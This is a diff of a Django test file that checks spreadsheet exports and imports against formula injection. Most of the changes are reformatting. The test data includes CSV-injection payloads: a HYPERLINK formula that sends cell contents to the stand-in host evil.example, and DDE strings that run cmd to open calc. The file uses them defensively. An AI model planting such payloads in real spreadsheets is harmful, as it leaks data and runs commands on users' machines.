@@ -18,11 +18,16 @@ from django.urls import URLPattern, URLResolver, get_resolver, reverse
 from chongdich.core import clock
 from chongdich.core.spreadsheets import write_numbered_sheet, write_xlsx
 from tests.helpers import run_job
-from tests.surveillance.pages import confirm, expose, fresh_tally_units  # noqa: F401 - fixtures
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Xem chi tiết")'
-PAYLOADS = [HYPERLINK, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-            "\t=1+1", "\r=1+1"]  # fmt: skip
+PAYLOADS = [
+    HYPERLINK,
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def _downloads(patterns=None, prefix="") -> set[str]:
@@ -47,9 +52,9 @@ def _cells(content: bytes):
 @pytest.fixture
 def poisoned(world, personas, make_person, confirm, expose):  # noqa: F811 - fixtures imported above
     """Records of Đức Hạnh whose typed text starts like a formula, and the downloads that carry them."""
-    from chongdich.reports.services import do_send_report
+    from chongdich.reports.actions import do_send_report
+    from chongdich.testing.actions import do_add_targets, do_create_campaign, do_register_sample
     from chongdich.testing.models import Lab
-    from chongdich.testing.services import do_add_targets, do_create_campaign, do_register_sample
 
     today = clock.today()
     source = make_person(full_name=HYPERLINK, address=PAYLOADS[1], notes=PAYLOADS[2], cccd=None)
@@ -60,14 +65,26 @@ def poisoned(world, personas, make_person, confirm, expose):  # noqa: F811 - fix
     lab.place_in(world.province)
     lab.save()
     do_register_sample(personas["national"], person=source, kind="rt_pcr", reason="f1", taken_on=today, lab=lab)
-    campaign, _ = do_create_campaign(personas["national"], unit=world.commune,
-                                     data={"name": "Sàng lọc", "start": today, "sample_kind": "rt_pcr"})  # fmt: skip
+    campaign, _ = do_create_campaign(
+        personas["national"], unit=world.commune, data={"name": "Sàng lọc", "start": today, "sample_kind": "rt_pcr"}
+    )
     do_add_targets(personas["national"], campaign, [contact])  # not tested yet
-    do_send_report(personas["commune"], world.commune, today, comments=HYPERLINK, signer=PAYLOADS[3],
-                   recipients=f"{PAYLOADS[2]}\n{PAYLOADS[1]}")  # fmt: skip
-    rejected = run_job(personas["commune"], "people.persons", world.commune, "ds.csv",
-                       f'Họ và tên,Giới tính,Năm sinh\n"{HYPERLINK.replace(chr(34), chr(34) * 2)}",X,1970\n'.encode(),
-                       confirm=False)  # fmt: skip
+    do_send_report(
+        personas["commune"],
+        world.commune,
+        today,
+        comments=HYPERLINK,
+        signer=PAYLOADS[3],
+        recipients=f"{PAYLOADS[2]}\n{PAYLOADS[1]}",
+    )
+    rejected = run_job(
+        personas["commune"],
+        "people.persons",
+        world.commune,
+        "ds.csv",
+        f'Họ và tên,Giới tính,Năm sinh\n"{HYPERLINK.replace(chr(34), chr(34) * 2)}",X,1970\n'.encode(),
+        confirm=False,
+    )
     assert rejected.rejected_file
     return {
         "people:export": reverse("people:export"),
@@ -112,8 +129,10 @@ def test_every_import_template_writes_no_formula(client_of):
 @pytest.mark.parametrize("payload", PAYLOADS)
 def test_writers_keep_formula_text_as_text_and_types_as_types(payload):
     day, moment = date(2021, 8, 20), datetime(2021, 8, 20, 14, 30)
-    for content in (write_xlsx(["a", "b", "c", "d"], [[payload, day, 1987, moment]]),
-                    write_numbered_sheet("x", ["No.", "a", "b", "c", "d"], [[payload, day, 1987, moment]])[0]):  # fmt: skip
+    for content in (
+        write_xlsx(["a", "b", "c", "d"], [[payload, day, 1987, moment]]),
+        write_numbered_sheet("x", ["No.", "a", "b", "c", "d"], [[payload, day, 1987, moment]])[0],
+    ):
         cells = {cell.value: cell for cell in _cells(content) if cell.value is not None}
         payload = payload.replace("\r", "\n")  # XML reads a carriage return back as a line feed
         assert cells[payload].data_type == "s" and cells[payload].quotePrefix
@@ -123,8 +142,10 @@ def test_writers_keep_formula_text_as_text_and_types_as_types(payload):
 
 def test_control_characters_do_not_break_an_export():
     """openpyxl refuses a control character (text pasted from Word) with an exception: escaped the OOXML way."""
-    for content in (write_numbered_sheet("x", ["No.", "a"], [["Ghi chú\x0bdán từ Word"]])[0],
-                    write_xlsx(["a"], [["Ghi chú\x0bdán từ Word"]])):  # fmt: skip
+    for content in (
+        write_numbered_sheet("x", ["No.", "a"], [["Ghi chú\x0bdán từ Word"]])[0],
+        write_xlsx(["a"], [["Ghi chú\x0bdán từ Word"]]),
+    ):
         assert [c.value for c in _cells(content)][-1] == "Ghi chú_x000B_dán từ Word"  # Excel shows the character
 
 
